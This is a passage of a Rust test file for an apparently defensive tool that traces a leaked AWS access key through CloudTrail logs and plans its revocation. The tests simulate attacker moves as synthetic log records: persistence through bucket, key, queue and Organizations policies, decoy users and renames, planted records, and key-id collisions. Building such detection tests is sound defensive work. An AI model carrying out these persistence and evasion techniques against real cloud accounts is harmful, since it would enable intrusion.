        let shadow = s.user_key(SECOND, "shadow", "AKIAI44QH8DHBEXAMPLE");
        let ops =
            s.assume_role(&shadow, T0 + 60, &format!("arn:aws:iam::{MAIN}:role/Ops"), "home", 3600);
        let call = s.call(&ops, T0 + 90, "iam.amazonaws.com", "ListUsers", Value::Null);
        s.drop_records(|account, _| account == SECOND);
        if !same_address {
            s.edit_records(|_, r| {
                if r["eventID"] == *call {
                    r["sourceIPAddress"] = "198.51.100.20".into();
                }
            });
        }
        let d = write(&s, &[]);
        assert!(!tainted_ids(&d, LEAKED).contains(&ops.node_id()));
        let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
        let named: Vec<&str> = b["signals"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| x["kind"] == "session_without_issuer_from_attacker_ip")
            .map(|x| x["credential"].as_str().unwrap())
            .collect();
        let p = plan(&d, LEAKED, "strict");
        let review = actions(&p, "review").iter().any(|a| {
            a["reason"]
                .as_str()
                .is_some_and(|r| r.contains("whose own record of the call is not in the trail"))
        });
        if same_address {
            assert_eq!(named, vec![ops.node_id().as_str()], "{b:#}");
            assert!(review, "{p:#}");
        } else {
            assert!(named.is_empty(), "{b:#}");
            assert!(!review, "{p:#}");
        }
    }
}

/// Access given on a resource itself (a bucket or key policy, a secret's policy, a snapshot
/// shared with another account) names principals directly: no deny or deactivation of the
/// plan takes it back. `blast` lists each such call of a tainted credential as persistence with
/// its follow-up, and the plan holds a review item for it.
#[test]
fn resource_policies_and_shares_a_tainted_credential_set_are_persistence_to_review() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let calls = [
        (
            "s3.amazonaws.com",
            "PutBucketPolicy",
            json!({"bucketName": "example-bucket", "bucketPolicy": {"Statement": []}}),
        ),
        (
            "kms.amazonaws.com",
            "PutKeyPolicy",
            json!({"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "policyName": "default"}),
        ),
        ("secretsmanager.amazonaws.com", "PutResourcePolicy", json!({"secretId": "prod/db"})),
        (
            "ec2.amazonaws.com",
            "ModifySnapshotAttribute",
            json!({"snapshotId": "snap-0123456789abcdef0", "attributeType": "CREATE_VOLUME_PERMISSION"}),
        ),
        ("iam.amazonaws.com", "DeleteRolePermissionsBoundary", json!({"roleName": "Admin"})),
        // Found by a review of resource policies, and one of Organizations (each silent).
        ("s3.amazonaws.com", "PutAccessPointPolicy", json!({"name": "ap1"})),
        (
            "sqs.amazonaws.com",
            "SetQueueAttributes",
            json!({"queueUrl": "q", "attributes": {"Policy": "{}"}}),
        ),
        ("sns.amazonaws.com", "SetTopicAttributes", json!({"attributeName": "Policy"})),
        ("lambda.amazonaws.com", "AddLayerVersionPermission20181031", json!({"layerName": "l"})),
        ("events.amazonaws.com", "PutPermission", json!({"principal": "123456789012"})),
        (
            "organizations.amazonaws.com",
            "DetachPolicy",
            json!({"policyId": "p-examplepolicyid111"}),
        ),
        (
            "organizations.amazonaws.com",
            "DisablePolicyType",
            json!({"rootId": "r-examplerootid111"}),
        ),
        ("ram.amazonaws.com", "CreateResourceShare", json!({"name": "share"})),
    ];
    for (i, (source, name, request)) in calls.iter().enumerate() {
        s.call(&leaked, T0 + 10 + i as i64, source, name, request.clone());
    }
    let d = write(&s, &[]);
    let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let listed: Vec<&str> = b["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["event_name"].as_str().unwrap())
        .collect();
    for (_, name, _) in &calls {
        assert!(listed.contains(name), "{name}: {listed:?}");
    }
    let p = plan(&d, LEAKED, "strict");
    let reviews = actions(&p, "review").iter().map(|a| a["reason"].to_string()).collect::<String>();
    for (_, name, _) in &calls {
        assert!(reviews.contains(name), "{name}: {reviews}");
    }
}

/// A record rejected while it is read (here the `AssumeRole` of a chain's second hop, its
/// `eventTime` null) may hide a session of the attacker: `verify` then says INCOMPLETE, not
/// OK, names what was not read, and exits 3, as `plan` does.
#[test]
fn a_verdict_over_rejected_records_says_incomplete_not_ok() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin =
        s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{MAIN}:role/Admin"), "x", 43_200);
    let deep = s.assume_role(&admin, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/Deep"), "y", 3600);
    s.call(&deep, T0 + 30, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.edit_records(|_, r| {
        if r["eventName"] == "AssumeRole" && r["requestParameters"]["roleSessionName"] == "y" {
            r["eventTime"] = Value::Null;
        }
    });
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 3, "{err}");
    let path = d.path().join("plan.json");
    std::fs::write(&path, serde_json::to_vec_pretty(&p).unwrap()).unwrap();
    let o = bin()
        .args(["verify", "--no-progress", "--plan", path.to_str().unwrap()])
        .arg(d.path().join("trail"))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(3), "{out}");
    assert!(out.starts_with("INCOMPLETE: "), "{out}");
    assert!(out.contains("1 records were rejected"), "{out}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 3);
    assert!(v["unread"].as_str().is_some_and(|u| u.contains("not followed")), "{v:#}");
    assert_eq!((&v["ok"], &v["verdict"]), (&json!(false), &json!("INCOMPLETE")), "{v:#}");
    // The case folder's report says so too.
    let case = d.path().join("case");
    let o = bin()
        .args(["investigate", "--no-progress", "--key", LEAKED, "--effective-at", CUT, "-o"])
        .arg(&case)
        .arg(d.path().join("trail"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3), "{}", String::from_utf8_lossy(&o.stderr));
    let html = std::fs::read_to_string(case.join("report.html")).unwrap();
    assert!(html.contains("INPUT INCOMPLETE") && !html.contains("PLAN VERIFIED"), "report.html");
}

/// More of one key id issued twice (F16), each found by a review: a session made by a call
/// signed with the shared key belongs to the twin whose principal signed it (the chain goes on
/// from the attacker's twin only, whichever record came first, and the innocent twin's chain is
/// not denied); a key id issued one second apart goes to the session the calls name; a call
/// without `creationDate` is the twin's whose principal it names; one session issued to two
/// callers keeps both as its issuers, so the leaked key's is not dropped.
#[test]
fn a_key_id_issued_to_two_principals_is_followed_by_principal() {
    let role = |name: &str| format!("arn:aws:iam::{MAIN}:role/{name}");
    for gap in [0, 1] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "alice", LEAKED);
        let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
        let mut theirs = s.assume_role(&bob, T0 + 20, &role("RoleB"), "ops", 3600);
        let ours = s.assume_role(&leaked, T0 + 20 + gap, &role("RoleA"), "atk", 3600);
        same_key(&mut s, &mut theirs, &ours);
        let innocent = s.assume_role(&theirs, T0 + 40, &role("RoleC"), "c", 3600);
        let deep = s.assume_role(&ours, T0 + 50, &role("RoleD"), "d", 3600);
        s.call(&innocent, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.call(&deep, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let secret = s.call(&ours, T0 + 80, "s3.amazonaws.com", "ListBuckets", Value::Null);
        // The attacker's last call carries no creationDate.
        s.edit_records(|_, r| {
            if r["eventID"] == *secret {
                r["userIdentity"]["sessionContext"].as_object_mut().unwrap().remove("attributes");
            }
        });
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        assert!(tainted.contains(&deep.node_id()), "gap {gap}: {tainted:?}");
        assert!(!tainted.contains(&innocent.node_id()), "gap {gap}: {tainted:?}");
        let p = plan(&d, LEAKED, "strict");
        let denied = principals(&p, "put_role_policy");
        assert!(denied.contains(&role("RoleA")) && denied.contains(&role("RoleD")), "{p:#}");
        assert!(!denied.contains(&role("RoleC")) && !denied.contains(&role("RoleB")), "{p:#}");
        assert_eq!(verify(&d, &p).0, 0);
        // Each of the attacker's calls is on the attacker's session.
        let (_, v, _) = run(&["sessions", "--key", LEAKED, "--format", "json"], &d);
        let atk = v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["principal_arn"].as_str().is_some_and(|a| a.ends_with("RoleA/atk")))
            .unwrap()
            .clone();
        assert_eq!(atk["events"], 2, "gap {gap}: {atk:#}");
    }

    // One role session issued to bob and to the leaked key, bob's record first.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "alice", LEAKED);
    let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
    let mut theirs = s.assume_role(&bob, T0 + 20, &role("RoleA"), "ops", 3600);
    let ours = s.assume_role(&leaked, T0 + 20, &role("RoleA"), "ops", 3600);
    same_key(&mut s, &mut theirs, &ours);
    s.call(
        &ours,
        T0 + 80,
        "s3.amazonaws.com",
        "GetObject",
        json!({"bucketName": "secret", "key": "k"}),
    );
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&ours.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role("RoleA")), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The role of a session is the one AWS names in its own calls (`sessionIssuer`), not the
/// `roleArn` its caller wrote in the request: a path there (`aws-reserved/sso.amazonaws.com/`)
/// that the calls contradict does not make the session unrevocable (F20) and leave it uncut.
#[test]
fn a_request_path_the_sessions_own_calls_contradict_does_not_make_it_unrevocable() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "alice", LEAKED);
    let deploy = format!("arn:aws:iam::{MAIN}:role/Deploy");
    let session = s.assume_role(&leaked, T0 + 20, &deploy, "atk", 43_200);
    s.edit_records(|_, r| {
        if r["eventName"] == "AssumeRole" {
            r["requestParameters"]["roleArn"] =
                format!("arn:aws:iam::{MAIN}:role/aws-reserved/sso.amazonaws.com/Deploy").into();
        }
    });
    s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&deploy), "{p:#}");
    assert_eq!(p["summary"]["unrevocable_sessions"], 0, "{:#}", p["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    assert!(v["unrevocable"].as_array().unwrap().is_empty(), "{v:#}");
}

/// F8 allows 10 managed policies attached to one principal by default. A deny cut in two
/// parts on a role the attacker attached 8 policies to fits (8 + 2); on one with 9 it does
/// not: the plan leaves it inline with a review item and counts its sessions NOT COVERED, and
/// `verify` refuses the second part's attach of a plan made before the ninth.
#[test]
fn the_parts_of_a_deny_count_against_the_managed_policy_quota() {
    let build = |attached: usize| {
        let (mut s, leaked, _) = launched(170);
        let put = json!({"roleName": "AppRole", "policyName": "pad", "policyDocument": padded_policy(4000)});
        s.call(&leaked, T0 + 40, "iam.amazonaws.com", "PutRolePolicy", put);
        for k in 0..attached {
            let attach = json!({"roleName": "AppRole", "policyArn": format!("arn:aws:iam::{MAIN}:policy/p{k}")});
            s.call(&leaked, T0 + 41 + k as i64, "iam.amazonaws.com", "AttachRolePolicy", attach);
        }
        write(&s, &[])
    };
    let eight = build(8);
    let p = plan(&eight, LEAKED, "strict");
    assert_eq!(actions(&p, "attach_role_policy").len(), 2, "{p:#}");
    assert_eq!(verify(&eight, &p).0, 0);
    let nine = build(9);
    let (code, v) = verify(&nine, &p);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].to_string().contains("managed policies"), "{v:#}");
    let (code, q, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &nine);
    assert_eq!(code, 1, "{err}");
    assert!(actions(&q, "attach_role_policy").is_empty(), "{q:#}");
    assert_eq!(q["summary"]["uncovered_sessions"], 170, "{:#}", q["summary"]);
}

/// The IAM snapshot (`--iam`) decides the managed parts of a deny as the trail does: a role
/// the snapshot shows with 9 managed policies attached has no quota for a deny cut in two
/// (NOT COVERED, exit 1, and `verify --iam` fails a plan made without the snapshot that
/// attaches both), and names the snapshot shows taken are not given to the parts.
#[test]
fn the_snapshot_decides_the_managed_parts_quota_and_names() {
    let (s, _, role) = launched(300);
    let d = write(&s, &[]);
    let snapshot = |attached: usize, taken: &[&str]| {
        let policies: Vec<Value> = (0..attached)
            .map(|k| json!({"PolicyName": format!("P{k}"), "PolicyArn": format!("arn:aws:iam::{MAIN}:policy/P{k}")}))
            .collect();
        let made: Vec<Value> = taken
            .iter()
            .map(|n| json!({"PolicyName": n, "PolicyId": "ANPAEXAMPLE0000000001", "Arn": format!("arn:aws:iam::{MAIN}:policy/{n}"), "Path": "/", "DefaultVersionId": "v1", "AttachmentCount": 0, "PolicyVersionList": [{"VersionId": "v1", "IsDefaultVersion": true, "Document": {"Version": "2012-10-17", "Statement": []}}]}))
            .collect();
        let doc = json!({
            "UserDetailList": [{"Path": "/", "UserName": "ci-deployer", "UserId": "AIDAEXAMPLEDEPLOY001", "Arn": format!("arn:aws:iam::{MAIN}:user/ci-deployer"), "CreateDate": "2023-01-01T00:00:00Z", "UserPolicyList": [], "GroupList": [], "AttachedManagedPolicies": []}],
            "GroupDetailList": [],
            "RoleDetailList": [{"Path": "/", "RoleName": "AppRole", "RoleId": "AROAEXAMPLEAPPROLE01", "Arn": role, "CreateDate": "2023-01-01T00:00:00Z", "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": []}, "RolePolicyList": [], "AttachedManagedPolicies": policies}],
            "Policies": made,
        });
        let path = d.path().join(format!("iam-{attached}-{}.json", taken.len()));
        std::fs::write(&path, serde_json::to_vec(&doc).unwrap()).unwrap();
        path
    };
    let plan_with = |iam: &std::path::Path| {
        run(&["plan", "--key", LEAKED, "--effective-at", CUT, "--iam", iam.to_str().unwrap()], &d)
    };
    // Nine attached: no quota for the parts.
    let nine = snapshot(9, &[]);
    let (code, p, err) = plan_with(&nine);
    assert_eq!(code, 1, "{err}");
    assert!(actions(&p, "attach_role_policy").is_empty(), "{p:#}");
    let without = plan(&d, LEAKED, "strict");
    assert!(actions(&without, "attach_role_policy").len() >= 2, "{without:#}");
    let path = d.path().join("plan.json");
    std::fs::write(&path, serde_json::to_vec_pretty(&without).unwrap()).unwrap();
    // `verify --format json` of the plan at `plan` with the snapshot files `iams`.
    let verify_iam = |plan: &std::path::Path, iams: &[&std::path::Path]| {
        let mut args = vec!["verify", "--format", "json", "--plan", plan.to_str().unwrap()];
        for i in iams {
            args.extend(["--iam", i.to_str().unwrap()]);
        }
        let (code, v, _) = run(&args, &d);
        (code, v)
    };
    let (code, v) = verify_iam(&path, &[&nine]);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].to_string().contains("managed policies"), "{v:#}");
    // Names taken: the parts go past them.
    let base = "TrailhoundRevokeOlderSessions-AppRole";
    let taken = snapshot(0, &[base, &format!("{base}-2")]);
    let (code, p, err) = plan_with(&taken);
    assert_eq!(code, 0, "{err}");
    let names: Vec<&str> =
        actions(&p, "create_policy").iter().map(|a| a["policy_name"].as_str().unwrap()).collect();
    assert!(!names.contains(&base) && !names.contains(&format!("{base}-2").as_str()), "{names:?}");
    // and verify refuses a create of a name the snapshot shows.
    let (code, v) = verify_iam(&path, &[&taken]);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].to_string().contains("EntityAlreadyExists"), "{v:#}");
    // A snapshot part that cannot be read: INCOMPLETE, not OK.
    let broken = d.path().join("iam-broken.json");
    std::fs::write(&broken, b"{\"RoleDetailList\": [").unwrap();
    let good = d.path().join("plan-taken.json");
    std::fs::write(&good, serde_json::to_vec_pretty(&p).unwrap()).unwrap();
    let (code, v) = verify_iam(&good, &[&taken, &broken]);
    assert_eq!(code, 3, "{v:#}");
    assert_eq!((&v["ok"], &v["verdict"]), (&json!(false), &json!("INCOMPLETE")), "{v:#}");
}

/// A snapshot taken before the attacker's put shows only the role's own inline policy, and
/// the trail only the attacker's: together they leave no room for the deny, which must go to a
/// managed policy. Taking the larger of the two (a review: 5,139 characters in the snapshot,
/// 5,038 put in the trail) left the deny inline, where IAM refuses it (LimitExceeded), with
/// plan 0 and verify OK. Alone, either leaves room.
#[test]
fn the_snapshot_and_the_trails_puts_share_one_inline_budget() {
    let role = format!("arn:aws:iam::{MAIN}:role/AppRole");
    let doc = |pad: usize| {
        let resource = format!("arn:aws:s3:::{}", "a".repeat(pad));
        json!({"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "s3:GetObject", "Resource": resource}]})
    };
    let build = |put: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let app = s.assume_role(&leaked, T0 + 60, &role, "app", 43_200);
        s.call(&app, T0 + 90, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if put {
            let text = doc(4_950).to_string();
            let request =
                json!({"roleName": "AppRole", "policyName": "Cache", "policyDocument": text});
            s.call(&leaked, T0 + 120, "iam.amazonaws.com", "PutRolePolicy", request);
        }
        let d = write(&s, &[]);
        let snap = json!({
            "UserDetailList": [], "GroupDetailList": [], "Policies": [],
            "RoleDetailList": [{"Path": "/", "RoleName": "AppRole", "RoleId": "AROAEXAMPLEAPPROLE01", "Arn": role, "CreateDate": "2023-01-01T00:00:00Z", "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": []}, "RolePolicyList": [{"PolicyName": "Legacy", "PolicyDocument": doc(5_050)}], "AttachedManagedPolicies": []}],
        });
        let iam = d.path().join("iam.json");
        std::fs::write(&iam, serde_json::to_vec(&snap).unwrap()).unwrap();
        (d, iam)
    };
    let plan_iam = |d: &TempDir, iam: &std::path::Path| {
        let (code, p, err) = run(
            &["plan", "--key", LEAKED, "--effective-at", CUT, "--iam", iam.to_str().unwrap()],
            d,
        );
        assert_eq!(code, 0, "{err}");
        p
    };
    // Both: no room inline.
    let (d, iam) = build(true);
    let p = plan_iam(&d, &iam);
    assert!(!principals(&p, "put_role_policy").contains(&role), "{p:#}");
    assert!(principals(&p, "attach_role_policy").contains(&role), "{p:#}");
    // The snapshot alone, or the trail alone: room inline.
    let (d, iam) = build(false);
    assert!(principals(&plan_iam(&d, &iam), "put_role_policy").contains(&role));
    let (d, _) = build(true);
    assert!(principals(&plan(&d, LEAKED, "strict"), "put_role_policy").contains(&role));
}

/// A put whose record lost its request may have filled any role's inline policies (F8), so a
/// role's deny goes to a managed policy; where the trail shows the role already has the 10
/// managed policies attached it may hold, that is refused too: NOT COVERED, exit 1.
#[test]
fn a_role_with_no_inline_room_and_its_managed_quota_shown_used_is_not_covered() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let app =
        s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{MAIN}:role/AppRole"), "x", 43_200);
    s.call(&app, T0 + 20, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "PutRolePolicy", Value::Null);
    for k in 0..10 {
        let attach =
            json!({"roleName": "AppRole", "policyArn": format!("arn:aws:iam::{MAIN}:policy/p{k}")});
        s.call(&leaked, T0 + 40 + k, "iam.amazonaws.com", "AttachRolePolicy", attach);
    }
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(actions(&p, "attach_role_policy").is_empty(), "{p:#}");
    assert_eq!(verify(&d, &p).0, 1);
}

/// A call without `creationDate` goes to the latest session of its key issued before it whose
/// principal it names, not to the latest whatever its principal: the attacker's session
/// issued a second before an innocent one of the same key id (F16) keeps its calls, and the
/// role it assumes is denied.
#[test]
fn a_call_without_creation_date_goes_to_the_session_of_its_principal() {
    // The attacker's AssumeRole of AdminRole as logged: with its ARN, with its principal id
    // only, and with an ARN that names no session of the key (then both sessions of the key
    // are drawn as its makers).
    for signer in ["arn", "principal id", "no session"] {
        without_creation_date(signer);
    }
}

fn without_creation_date(signer: &str) {
    let role = |name: &str| format!("arn:aws:iam::{MAIN}:role/{name}");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "alice", LEAKED);
    let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
    let ours = s.assume_role(&leaked, T0 + 9, &role("AppRole"), "x", 3600);
    let mut theirs = s.assume_role(&bob, T0 + 10, &role("OtherRole"), "y", 3600);
    same_key(&mut s, &mut theirs, &ours);
    let admin = s.assume_role(&ours, T0 + 60, &role("AdminRole"), "z", 3600);
    s.call(&admin, T0 + 90, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let key = ours.key.clone();
    let other = format!("arn:aws:sts::{MAIN}:assumed-role/AppRole/other");
    s.edit_records(|_, r| {
        if r["userIdentity"]["accessKeyId"] == key.as_str() {
            if let Some(sc) = r["userIdentity"]["sessionContext"].as_object_mut() {
                sc.remove("attributes");
            }
            if r["eventName"] == "AssumeRole" {
                let id = r["userIdentity"].as_object_mut().unwrap();
                match signer {
                    "principal id" => drop(id.remove("arn")),
                    "no session" => drop(id.insert("arn".into(), other.clone().into())),
                    _ => {}
                }
            }
        }
    });
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&admin.node_id()), "{signer}");
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role("AdminRole")), "{p:#}");
    assert!(!principals(&p, "put_role_policy").contains(&role("OtherRole")), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The leaked key (user ci-deployer) launches `n` instances with role AppRole's profile, and
/// each instance's session makes a call: the scenario, the leaked key and the role's ARN.
fn launched(n: usize) -> (Scenario, Cred, String) {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AppRole");
    let ids: Vec<String> = (0..n).map(|i| format!("i-0000000000000{i:04x}")).collect();
    let refs: Vec<&str> = ids.iter().map(String::as_str).collect();
    s.run_instances(&leaked, T0 + 60, "AppProfile", &refs);
    for id in &ids {
        let c = s.instance_session(&role, id, T0 + 120, 6 * 3600);
        s.call(&c, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    (s, leaked, role)
}

/// Calls of IAM's names made to other services touch no IAM user (a review reproduced both
/// with plan and verify OK): the leaked key makes Identity Center user `bob` (identity store
/// `CreateUser`) while an unrelated IAM user `bob` uses its key; and it makes IAM user `evil`
/// with a password, then a Transfer Family SFTP user `evil`, which it deletes (Transfer
/// `DeleteUser`), after which IAM user `evil` signs in and makes a key. Before, IAM user
/// `bob` was the attacker's (plan.sh deactivated, then deleted, its key and the user) and
/// IAM user `evil` was deleted (its password, console session and key left alone).
#[test]
fn calls_of_iam_names_to_other_services_make_and_remove_no_iam_user() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let store = json!({"identityStoreId": "d-1234567890", "userName": "bob", "displayName": "Bob"});
    s.call(&leaked, T0, "identitystore.amazonaws.com", "CreateUser", store);
    let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
    s.call(&bob, T0 + 600, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.create_user(&leaked, T0 + 10, "evil");
    s.create_login_profile(&leaked, T0 + 20, "evil");
    let sftp = json!({"serverId": "s-01234567890abcdef", "userName": "evil"});
    s.call(&leaked, T0 + 30, "transfer.amazonaws.com", "CreateUser", sftp.clone());
    s.call(&leaked, T0 + 40, "transfer.amazonaws.com", "DeleteUser", sftp);
    let console = s.console_login(MAIN, T0 + 120, "evil");
    let made = s.create_access_key(&console, T0 + 180, Some("evil"));
    s.call(&made, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(!tainted.contains(&bob.key), "{tainted:?}");
    assert!(tainted.contains(&console.node_id()) && tainted.contains(&made.key), "{tainted:?}");
    // The identity store's user is Identity Center's (F20): a route the taint does not follow.
    let p = plan_with_routes(&d, LEAKED, 1);
    let user = |n: &str| format!("arn:aws:iam::{MAIN}:user/{n}");
    assert!(!deactivated(&p).contains(&bob.key.as_str()), "{p}");
    assert!(actions(&p, "delete_user").iter().all(|a| a["user_name"] != "bob"), "{p}");
    assert!(deactivated(&p).contains(&made.key.as_str()), "{p}");
    assert!(principals(&p, "put_user_policy").contains(&user("evil")), "{p}");
    assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{p}");
    // verify fails on that route alone: everything the graph holds is cut.
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
    assert!(v["not_covered"].as_array().unwrap().is_empty(), "{v}");
    assert!(v["keys_left_active"].as_array().unwrap().is_empty(), "{v}");
    let notes = v["notes"].to_string();
    assert_eq!(notes.matches("NOT FOLLOWED: CreateUser").count(), 1, "{notes}");
}

/// The attacker renames its user `evil` to `evil2`, makes another user `evil` and deletes that
/// one: the deletion is not `evil2`'s (a review reproduced it with plan and verify OK, `evil2`
/// "deleted", its password and console session left alone). A deletion of the name the user
/// had at the time still counts.
#[test]
fn deleting_a_users_old_name_after_a_rename_deletes_another_user() {
    let build = |delete_before_rename: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.create_user(&leaked, T0, "evil");
        s.create_login_profile(&leaked, T0 + 10, "evil");
        let del = json!({"userName": "evil"});
        if delete_before_rename {
            s.call(&leaked, T0 + 20, "iam.amazonaws.com", "DeleteUser", del.clone());
        }
        let rename = json!({"userName": "evil", "newUserName": "evil2"});
        s.call(&leaked, T0 + 30, "iam.amazonaws.com", "UpdateUser", rename);
        s.create_user(&leaked, T0 + 40, "evil");
        if !delete_before_rename {
            s.call(&leaked, T0 + 50, "iam.amazonaws.com", "DeleteUser", del);
        }
        let console = s.console_login(MAIN, T0 + 120, "evil2");
        s.call(&console, T0 + 130, "iam.amazonaws.com", "ListUsers", Value::Null);
        (write(&s, &[]), console)
    };
    let (d, console) = build(false);
    assert!(tainted_ids(&d, LEAKED).contains(&console.node_id()));
    let p = plan(&d, LEAKED, "strict");
    let evil2 = format!("arn:aws:iam::{MAIN}:user/evil2");
    assert!(principals(&p, "put_user_policy").contains(&evil2), "{p}");
    assert!(actions(&p, "delete_login_profile").iter().any(|a| a["user_name"] == "evil2"), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
    // Deleted under its name before the rename: the user is gone.
    let (d, _) = build(true);
    let p = plan(&d, LEAKED, "strict");
    assert!(!principals(&p, "put_user_policy").contains(&evil2), "{p}");
    // A decoy `evil2` made and deleted in the same second as the rename: which came first
    // cannot be told, so the deletion is not taken for the renamed user's (a second review).
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "evil");
    s.create_login_profile(&leaked, T0 + 10, "evil");
    s.create_user(&leaked, T0 + 30, "evil2");
    let rename = json!({"userName": "evil", "newUserName": "evil2"});
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "UpdateUser", rename);
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "DeleteUser", json!({"userName": "evil2"}));
    let console = s.console_login(MAIN, T0 + 120, "evil2");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&console.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_user_policy").contains(&evil2), "{p}");
}

/// The role id of a session's `aws:userid` as the issuing response names it and as its first
/// call carries it disagree (a copy of the `AssumeRole` planted under another eventID and read
/// first, or a call planted to look first): neither is taken, and the surgical deny names the
/// session as `*:SESSION-NAME`, which IAM matches whichever id is true (F9). Before, the deny
/// named the planted id, which no session has, and verify said covered (two reviews, one
/// direction each).
#[test]
fn a_surgical_deny_of_a_session_whose_ids_disagree_names_any_id_of_its_role() {
    let fake = "AROAFAKEFAKEFAKEFAKE:s1";
    for planted_response in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/Admin");
        let session = s.assume_role(&leaked, T0, &role, "s1", 12 * 3600);
        if !planted_response {
            let planted = session.with_principal_id(fake);
            s.call(&planted, T0 + 30, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
        }
        s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if planted_response {
            s.edit_records(|_, r| {
                if r["eventName"] == "AssumeRole" {
                    r["eventID"] = json!("00000000-0000-0000-0000-000000000000");
                    r["responseElements"]["assumedRoleUser"]["assumedRoleId"] = json!(fake);
                }
            });
        }
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "surgical");
        let denies = actions(&p, "put_role_policy");
        let doc = denies.iter().map(|a| a["policy_document"].to_string()).collect::<String>();
        assert!(doc.contains("\"*:s1\"") && !doc.contains(fake), "{planted_response}: {p}");
        assert_eq!(verify(&d, &p).0, 0);
    }
    // A second copy of the issuing call, under another eventID, naming another role id,
    // before or after the true one, the session used or not: the first copy's id was taken
    // when no call followed (a review's finding), and would be when the call repeats it.
    for (before, used) in [(true, false), (false, false), (true, true)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/Admin");
        let session = s.assume_role(&leaked, T0, &role, "s1", 12 * 3600);
        s.copy_records(before, |r| {
            let issuing = r["eventName"] == "AssumeRole";
            if issuing {
